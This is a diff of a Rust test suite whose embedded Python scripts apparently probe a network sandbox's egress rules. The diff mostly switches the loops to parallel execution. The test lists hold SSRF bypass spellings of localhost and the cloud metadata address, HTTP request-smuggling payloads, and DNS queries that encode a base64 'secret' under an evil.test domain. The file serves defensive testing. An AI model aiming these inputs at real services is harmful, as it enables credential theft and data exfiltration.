@@ -14,17 +14,13 @@ PLACES = ["127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0x7f.
   "64:ff9b::a9fe:a9fe", "64:ff9b::10.9.8.7", "64:ff9b:1::a9fe:a9fe", "2002:a9fe:a9fe::", "2002:7f00:1::1",
   "2001:0:5ef5:79fd::1", "fe80::1", "fe80::1%lo", "fd00:ec2::254", "fec0::1", "ff02::1", "localhost", "localhost.",
   "LOCALHOST", "x.localhost", "169.254.169.254.", "[::1]", "meta.test", "META.test.", "lan.test", "loop.test",
-  "zero.test", "six.test", "nat.test", "169.254.169.254\0.good.test", "good.test\0.169.254.169.254",
-  "good.test@169.254.169.254", "169.254.169.254#good.test", "good.test%00", "http://good.test", "\u2460.\u2461.1.1",
+  "zero.test", "six.test", "nat.test", "169.254.169.254\0.good.test",   "good.test@169.254.169.254", "169.254.169.254#good.test", "good.test%00", "http://good.test", "\uff11\uff10.9.8.7",
   "good\u3002test@10.9.8.7"]
-import concurrent.futures
-def one(job):
-    place, way = job
+def one(place, way):
     try: got = way(place, 80)
     except (OSError, UnicodeError, ValueError): got = b""
     if b"hello" in got: print("reached", ascii(place), way.__name__, flush=True)
-with concurrent.futures.ThreadPoolExecutor(16) as pool:
-    list(pool.map(one, [(p, w) for p in PLACES for w in EVERY]))
+at_once(one, [(p, w) for p in PLACES for w in EVERY])
 "#;
 
 /// N01, N05: no spelling, no name and no proxy leads to what is special.
@@ -109,8 +105,7 @@ for port in (80, 443, 7000, 8443):
                  "GET / HTTP/1.0\r\nHost: bad.test\r\n\r\n", "CONNECT bad.test:443 HTTP/1.1\r\nHost: bad.test:443\r\n\r\n",
                  GET.format("/", "good.test") + GET.format("/", "bad.test"), GET.format("/", ADDRESS),
                  GET.format("/", "good.test.bad.test"), GET.format("/", "bad.test.good.test")):
-        for way in EVERY[:3]: way("good.test", port, text)
-        for way in EVERY[:3]: way(ADDRESS, port, text)
+        at_once(lambda at, way: way(at, port, text), [(at, way) for at in ("good.test", ADDRESS) for way in EVERY[:3]])
 for at in ("good.test", ADDRESS):
     for host in ("bad.test", ADDRESS, "bad.test:80", "good.test,bad.test"):
         if host != at: absolute("x", 80, GET.format(f"http://{at}/", host))
@@ -167,9 +162,8 @@ for text in (
     f"GET / HTTP/1.1\r\n{H}Upgrade: x\r\nConnection: upgrade\r\n\r\n{BAD}",
     f"GET / HTTP/1.1\r\n{H}Expect: 100-continue\r\nContent-Length: {len(BAD)}\r\n\r\n" + BAD.replace("smuggled", "body"),
 ):
-    direct("good.test", 80, text)
-    for way in (socks, connect): way("good.test", 80, text)
-    absolute("good.test", 80, text.replace(" / ", " http://good.test/ "))
+    whole = text.replace(" / ", " http://good.test/ ")
+    at_once(lambda way, text: way("good.test", 80, text), [(direct, text), (socks, text), (connect, text), (absolute, whole)])
 assert b"hello" in direct("good.test", 80, f"POST /control HTTP/1.1\r\n{H}Transfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n")
 "#;
     for who in BOTH {
@@ -232,21 +226,26 @@ def ask_on_stream(server, message):
 LEAK = "c2VjcmV0" * 7
 NAMES = [LEAK + ".evil.test", LEAK + ".good.test", "sub.good.test", "test", "good.test.evil.test", "xgood.test", "wild.test",
          ".".join([LEAK] * 4) + ".wild.tes", "good.test\0.evil.test", LEAK + "." + "evil.org", "1.0.0.10.in-addr.arpa", "dns.google"]
+STREAM, SIX = "stream", socket.AF_INET6
+def put(how, server, name, kind):
+    if how == STREAM: ask_on_stream(server, question(name, kind))
+    else: ask(server, question(name, kind), how)
+jobs = []
 for name in NAMES:
-    for kind in (1, 28): ask("192.0.0.53", question(name, kind))
-    for server in ("8.8.8.8", "192.0.0.8", "9.9.9.9"): ask(server, question(name, 1))
-    ask_on_stream("8.8.8.8", question(name, 1))
-    ask("2001:4860:4860::8888", question(name, 1), socket.AF_INET6)
+    jobs += [(socket.AF_INET, "192.0.0.53", name, kind) for kind in (1, 28)] + [(STREAM, "8.8.8.8", name, 1)]
+    jobs += [(socket.AF_INET, server, name, 1) for server in ("8.8.8.8", "192.0.0.8", "9.9.9.9")]
+    jobs += [(SIX, "2001:4860:4860::8888", name, 1)]
 for name in ("good.test", "a.wild.test", LEAK + ".wild.test"):
-    for kind in (2, 5, 6, 10, 12, 15, 16, 33, 35, 64, 65, 99, 255, 256, 257, 65280): 
-        ask("192.0.0.53", question(name, kind))
-        ask_on_stream("9.9.9.9", question(name, kind))
+    for kind in (2, 5, 6, 10, 12, 15, 16, 33, 35, 64, 65, 99, 255, 256, 257, 65280):
+        jobs += [(socket.AF_INET, "192.0.0.53", name, kind), (STREAM, "9.9.9.9", name, kind)]
+at_once(put, jobs)
 # Two questions, other classes, other kinds of messages, bytes after the end, and much of it.
 plain = question("good.test", 1)
 for message in (plain[:4] + b"\0\2" + plain[6:] + plain[12:], plain[:-1] + b"\3", b"\0\7\x28\0" + plain[4:],
                 b"\0\7\x20\0" + plain[4:], plain[:30], plain + LEAK.encode() * 5, plain[:7] + b"\1" + plain[8:] + b"x"):
     ask("192.0.0.53", message)
-for way in EVERY: way("dns.google", 443); way("8.8.8.8", 443); way("8.8.8.8", 53); way("9.9.9.9", 53)
+at_once(lambda way, host, port: way(host, port), [(way, *to) for way in EVERY
+        for to in (("dns.google", 443), ("8.8.8.8", 443), ("8.8.8.8", 53), ("9.9.9.9", 53))])
 ask("192.0.0.53", question("b.wild.test", 1))
 assert socket.inet_aton("5.5.5.5") in ask("192.0.0.53", question("good.test", 1))
 assert socket.inet_aton("5.5.5.5") in ask("8.8.4.4", question("gOOd.test", 1))
@@ -269,7 +268,8 @@ assert socket.inet_aton("5.5.5.5") in ask_on_stream("8.8.4.4", plain)
 #[test]
 fn datagrams_leave_by_rule_only() {
     const SEND: &str = r#"
-socket.gethostbyname("good.test")
+try: socket.gethostbyname("good.test")
+except OSError: pass
 for family, hosts in ((socket.AF_INET, ("5.5.5.5", "8.8.8.8", "169.254.169.254", "255.255.255.255", "224.0.0.251", "10.9.8.7")),
                       (socket.AF_INET6, ("::ffff:5.5.5.5", "2606::1", "ff02::fb", "fe80::1"))):
     for host in hosts:
